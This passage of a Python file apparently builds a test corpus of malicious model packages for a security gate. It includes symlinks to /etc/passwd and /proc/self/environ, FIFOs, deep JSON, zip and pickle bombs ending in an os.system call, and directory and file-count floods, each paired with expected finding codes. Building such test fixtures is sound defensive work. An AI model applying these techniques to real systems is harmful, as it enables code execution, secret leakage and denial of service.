    evil = _outside(kernel) / f"{kernel.name}-handler.py"
    evil.write_text(_hostile_source(marker))
    return str(evil)


def _fifo(relative: str) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(ONNX_BASE, kernel)
        path = kernel / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists():
            path.unlink()
        os.mkfifo(path)
        return (relative,)

    return build


def _nested_json(depth: int) -> bytes:
    return b"[" * depth + b"1" + b"]" * depth


def _deep_metadata(depth: int) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(ONNX_BASE, kernel)
        if depth > 10_000:  # nothing but brackets
            (kernel / "model_metadata.json").write_bytes(_nested_json(depth))
        else:  # a real contract with one deeply nested value
            text = (kernel / "model_metadata.json").read_text().rstrip().removesuffix("}")
            nested = _nested_json(depth).decode()
            (kernel / "model_metadata.json").write_text(f'{text.rstrip()},\n "labels_extra": {nested}\n}}\n')
        return ("model_metadata.json",)

    return build


def _sample() -> dict:
    return json.loads((ONNX_BASE / "samples" / "example.json").read_text())


def _deep_sample(depth: int) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(ONNX_BASE, kernel)
        path = kernel / "samples" / "example.json"
        if depth > 10_000:
            path.write_bytes(_nested_json(depth))
        else:
            text = json.dumps(_sample())
            nested = _nested_json(depth).decode()
            path.write_text(text.replace('"data": [', f'"data": [{nested}, ', 1))
        return ("samples/example.json",)

    return build


def _huge_sample(kernel: Path, marker: Path) -> tuple[str, ...]:
    """A valid 70 MiB golden sample (a real sample, then whitespace)."""
    _copy(ONNX_BASE, kernel)
    with (kernel / "samples" / "big.json").open("wb") as handle:
        handle.write(json.dumps(_sample()).encode())
        chunk = b" " * MIB
        for _ in range(70):
            handle.write(chunk)
    return ("samples/big.json",)


BOMB_PAIRS = 100_000_000  # 200 MB of "N0" (NONE, POP)


def bomb_stream(marker: Path, pairs: int = BOMB_PAIRS) -> Callable[[], Iterator[bytes]]:
    """A protocol-2 pickle of ``pairs`` NONE/POP opcodes, then os.system: 2*pairs+ bytes, streamed."""

    def chunks() -> Iterator[bytes]:
        yield b"\x80\x02"
        block = b"N0" * (4 * MIB)
        left = pairs
        while left:
            count = min(left, 4 * MIB)
            yield block if count == 4 * MIB else b"N0" * count
            left -= count
        yield _call2("os", "system", touch_command(marker)) + STOP

    return chunks


def bomb_zip(marker: Path, pairs: int = BOMB_PAIRS) -> bytes:
    """A small zip (a few hundred KiB) whose one deflated member inflates to the bomb pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("state.pkl", FIXED_ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as handle:
            for chunk in bomb_stream(marker, pairs)():
                handle.write(chunk)
    return buffer.getvalue()


def _bomb_extra(kernel: Path, marker: Path) -> tuple[str, ...]:
    _copy(ONNX_BASE, kernel)
    (kernel / "assets").mkdir()
    (kernel / "assets" / "cache.zip").write_bytes(bomb_zip(marker))
    return ("assets/cache.zip",)


def _bomb_in_model(kernel: Path, marker: Path) -> tuple[str, ...]:
    """model.pt whose data.pkl is a deflated member inflating to 200 MB of opcodes."""
    _copy(TORCHSCRIPT_BASE, kernel)
    prefix, members = _torchscript_members()
    streamed: dict[str, bytes | Callable[[], Iterable[bytes]]] = dict(members)
    streamed[prefix + "data.pkl"] = bomb_stream(marker)
    _write_zip(kernel / "model.pt", streamed, deflated=[prefix + "data.pkl"])
    return (f"model.pt!{prefix}data.pkl", "model.pt")


MANY_FILES = 100_000


def _many_files(kernel: Path, marker: Path) -> tuple[str, ...]:
    """100,000 tiny files in assets/ (the last one a pickle), written with raw os calls."""
    _copy(ONNX_BASE, kernel)
    directory = kernel / "assets"
    directory.mkdir()
    descriptor = os.open(directory, os.O_RDONLY)
    try:
        for index in range(MANY_FILES - 1):
            flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL
            handle = os.open(f"t{index:05d}.txt", flags, 0o644, dir_fd=descriptor)
            os.write(handle, b"x\n")
            os.close(handle)
    finally:
        os.close(descriptor)
    (directory / f"t{MANY_FILES - 1:05d}.txt").write_bytes(os_system_pickle(marker))
    return (".", "assets")


def _odd_name(raw: bytes) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(ONNX_BASE, kernel)
        (kernel / "assets").mkdir()
        (kernel / "assets" / os.fsdecode(raw)).write_bytes(os_system_pickle(marker))
        relative = "assets/" + os.fsdecode(raw)
        escaped = "".join(chr(b) if 32 <= b < 127 else f"\\x{b:02x}" for b in raw)  # vocab\x0a.txt
        forms = (raw.decode("utf-8", "replace"), raw.decode("latin-1"), ascii(os.fsdecode(raw))[1:-1],
                 repr(raw)[2:-1], escaped)
        readable = ["assets/" + form for form in forms]
        return (relative, *dict.fromkeys(r for r in readable if r != relative))

    return build


DEEP_TREE_LEVELS = 1000  # os.walk and shutil.rmtree recurse once per level (Python 3.11)


def _deep_tree(kernel: Path, marker: Path) -> tuple[str, ...]:
    """1000 nested directories with a pickle at the bottom (created level by level: os.makedirs
    itself recurses too deep)."""
    _copy(ONNX_BASE, kernel)
    path = kernel / "deep"
    path.mkdir()
    for _ in range(DEEP_TREE_LEVELS):
        path = path / "d"
        path.mkdir()
    (path / "payload.dat").write_bytes(os_system_pickle(marker))
    return ("deep",)


def remove_tree(root: Path) -> None:
    """shutil.rmtree without recursion (the deep-tree entry is deeper than the recursion limit)."""
    if not root.exists() and not root.is_symlink():
        return
    stack = [root]
    while stack:
        current = stack[-1]
        children = []
        with os.scandir(current) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    children.append(Path(entry.path))
                else:
                    os.unlink(entry.path)
        if children:
            stack.extend(children)
        else:
            os.rmdir(current)
            stack.pop()


LEAK_ENTRIES = [
    GateEntry("link-environ", "6", "innocent", "notes.txt -> /proc/self/environ",
              _link("notes.txt", "/proc/self/environ"), LINK_CODES),
    GateEntry("link-passwd", "6", "innocent", "assets/users.txt -> /etc/passwd",
              _link("assets/users.txt", "/etc/passwd"), LINK_CODES),
    GateEntry("link-requirements-passwd", "6", "kernel", "requirements.txt -> /etc/passwd",
              _link("requirements.txt", "/etc/passwd"), LINK_CODES),
    GateEntry("link-requirements-environ", "6", "kernel", "requirements.txt -> /proc/self/environ",
              _link("requirements.txt", "/proc/self/environ", base=TORCHSCRIPT_BASE), LINK_CODES),
    GateEntry("link-metadata-environ", "6", "kernel", "model_metadata.json -> /proc/self/environ",
              _link("model_metadata.json", "/proc/self/environ"), LINK_CODES | {"KS002"}),
    GateEntry("link-metadata-passwd", "6", "kernel", "model_metadata.json -> /etc/passwd",
              _link("model_metadata.json", "/etc/passwd"), LINK_CODES | {"KS002"}),
    GateEntry("link-sample-environ", "6", "samples", "samples/example.json -> /proc/self/environ",
              _link("samples/example.json", "/proc/self/environ"), LINK_CODES),
    GateEntry("link-sample-environ-samples", "6", "samples", "the same, validated with the golden samples",
              _link("samples/example.json", "/proc/self/environ"), LINK_CODES,
              skip_samples=False),
    GateEntry("link-sample-passwd", "6", "samples", "samples/extra.json -> /etc/passwd",
              _link("samples/extra.json", "/etc/passwd"), LINK_CODES),
    GateEntry("link-handler", "6", "kernel", "handler.py -> a hostile handler outside the kernel",
              _link("handler.py", _outside_handler, handler=True), LINK_CODES | {"KS008"}),
    GateEntry("link-handler-samples", "6", "kernel", "the same, validated with the golden samples",
              _link("handler.py", _outside_handler, handler=True), LINK_CODES | {"KS008"},
              skip_samples=False),
    GateEntry("link-dir-etc", "6", "innocent", "assets -> /etc (directory link)", _link("assets", "/etc"),
              LINK_CODES),
    GateEntry("link-model-environ", "6", "model", "model.onnx -> /proc/self/environ",
              _link("model.onnx", "/proc/self/environ"), LINK_CODES),
    GateEntry("fifo-assets", "6", "innocent", "assets/stream is a FIFO (a reader blocks forever)",
              _fifo("assets/stream"), LINK_CODES | {"KS402"}),
    GateEntry("fifo-requirements", "6", "kernel", "requirements.txt is a FIFO", _fifo("requirements.txt"),
              LINK_CODES | {"KS402"}),
    GateEntry("fifo-metadata", "6", "kernel", "model_metadata.json is a FIFO", _fifo("model_metadata.json"),
              LINK_CODES | {"KS402", "KS002"}),
    GateEntry("fifo-sample", "6", "samples", "samples/example.json is a FIFO", _fifo("samples/example.json"),
              LINK_CODES | {"KS402", "KS302"}),
    GateEntry("fifo-model", "6", "model", "model.onnx is a FIFO", _fifo("model.onnx"),
              LINK_CODES | {"KS402"}),
    GateEntry("json-deep-metadata-100k", "6", "kernel", "model_metadata.json: 100,000 nested arrays",
              _deep_metadata(100_000), frozenset({"KS003", "KS004"}) | SIZE_CODES),
    GateEntry("json-deep-metadata-900", "6", "kernel", "model_metadata.json: a 900-deep value",
              _deep_metadata(900), frozenset({"KS003", "KS004"}) | SIZE_CODES),
    GateEntry("json-deep-sample-100k", "6", "samples", "samples/example.json: 100,000 nested arrays",
              _deep_sample(100_000), frozenset({"KS302", "KS407"}) | SIZE_CODES),
    GateEntry("json-deep-sample-900", "6", "samples", "samples/example.json: a 900-deep value in data",
              _deep_sample(900), frozenset({"KS302", "KS407"}) | SIZE_CODES),
    GateEntry("sample-70mib", "6", "samples", "a valid 70 MiB golden sample (whitespace)", _huge_sample,
              frozenset({"KS302", "KS407"}) | SIZE_CODES),
    GateEntry("odd-name-newline", "6", "innocent", "assets/'vocab\\n.txt' holding an os.system pickle",
              _odd_name(b"vocab\n.txt"), PICKLE_CODES),
    GateEntry("odd-name-non-utf8", "6", "innocent", "assets/ name with bytes 0xff 0xfe holding a pickle",
              _odd_name(b"w\xff\xfeights.dat"), PICKLE_CODES),
    GateEntry("deep-tree", "6", "innocent", f"{DEEP_TREE_LEVELS} nested directories, a pickle at the bottom",
              _deep_tree, PICKLE_CODES | SIZE_CODES),
    GateEntry("bomb-extra", "6", "innocent", "assets/cache.zip: 200 KiB deflating to 200 MB of opcodes, "
              "then os.system", _bomb_extra, ARCHIVE_CODES | SIZE_CODES, heavy=True),
    GateEntry("bomb-model-member", "6", "model", "model.pt whose data.pkl deflates to 200 MB of opcodes",
              _bomb_in_model, ARCHIVE_CODES | SIZE_CODES, heavy=True),
    GateEntry("many-files", "6", "innocent", f"{MANY_FILES:,} tiny files in assets/", _many_files,
              frozenset({"KS402"}) | SIZE_CODES | PICKLE_CODES, heavy=True),
]


def _all_entries() -> list[GateEntry]:
    entries = [
        _payload_entry(PICKLE_FAMILIES[name], key) for name, keys in PICKLE_MATRIX.items() for key in keys
    ]
    entries += [
        _payload_entry(CONTAINER_FAMILIES[name], key, ARCHIVE_CODES)
        for name, keys in CONTAINER_MATRIX.items() for key in keys
    ]
    return entries + CODE_ENTRIES + LEAK_ENTRIES


ENTRIES: list[GateEntry] = _all_entries()


def build_entry(entry: GateEntry, corpus: Path, markers: Path) -> tuple[str, ...]:
    """Write one entry's kernel; returns the relative names a finding about it may give."""
    return entry.build(corpus / entry.name, markers / entry.name)


def build(
    root: Path, entries: Iterable[GateEntry] = ENTRIES
) -> tuple[Path, Path, dict[str, tuple[str, ...]]]:
    """Write ``entries`` under ``root/corpus``; markers would appear in ``root/markers``."""
    corpus, markers = root / "corpus", root / "markers"
    for directory in (corpus, markers, root / "outside"):
        directory.mkdir(parents=True, exist_ok=True)
    names = {entry.name: build_entry(entry, corpus, markers) for entry in entries}
    return corpus, markers, names


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "build/gate-classes").resolve()
    remove_tree(out)
    corpus_dir, _, reported = build(out)
    for item in ENTRIES:
        print(f"{item.name:48} class {item.klass} {item.placement:8} {', '.join(reported[item.name])}")
    print(f"\n{len(ENTRIES)} kernels in {corpus_dir}")
